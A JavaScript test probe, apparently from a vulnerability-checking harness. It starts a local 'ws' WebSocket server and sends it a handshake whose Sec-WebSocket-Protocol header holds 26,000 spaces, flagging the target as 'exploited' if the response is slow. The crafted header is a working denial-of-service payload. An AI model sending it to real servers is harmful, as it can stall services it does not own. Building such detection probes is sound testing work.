// ws probe: a WebSocket server on its own port; the probe upgrades with the input as Sec-WebSocket-Protocol.
import http from 'node:http';
import { createRequire } from 'node:module';

const require = createRequire(import.meta.url);
const WebSocket = require('ws');

// Its own HTTP server, so the attack header can be long enough to take time on any machine (Node's default
// limit for all headers is 16 kB).
const server = http.createServer({ maxHeaderSize: 1 << 16 });
new WebSocket.Server({ server });
await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));

export function probe(input) {
  const protocols = input === 'attack' ? 'b' + ' '.repeat(26000) + 'x' : input;
  const t0 = performance.now();
  return new Promise((resolve, reject) => {
    const req = http.get({
      host: '127.0.0.1',
      port: server.address().port,
      maxHeaderSize: 1 << 16,
      agent: false,
      headers: {
        connection: 'Upgrade',
        upgrade: 'websocket',
        'sec-websocket-key': 'dGhlIHNhbXBsZSBub25jZQ==',
        'sec-websocket-version': '13',
        'sec-websocket-protocol': protocols,
      },
    });
    req.on('upgrade', (res, socket) => {
      socket.destroy();
      const result = { status: res.statusCode, protocol: res.headers['sec-websocket-protocol'] ?? null };
      resolve({ result, exploited: performance.now() - t0 > 100 });
    });
    req.on('response', (res) => {
      res.resume();
      resolve({ result: { status: res.statusCode }, exploited: performance.now() - t0 > 100 });
    });
    req.on('error', reject);
  });
}
